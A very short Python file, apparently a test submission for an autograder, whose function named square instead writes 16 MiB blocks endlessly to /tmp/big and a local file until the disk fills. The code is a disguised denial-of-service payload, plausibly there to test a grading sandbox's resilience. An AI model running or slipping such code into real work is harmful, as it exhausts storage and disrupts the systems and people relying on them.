"""A file that grows until the disk is full."""
# points: 0 2


def square(x):
    with open("/tmp/big", "wb") as big, open("big", "wb") as also:
        for file in (big, also):
            while True:
                file.write(bytes(1 << 24))
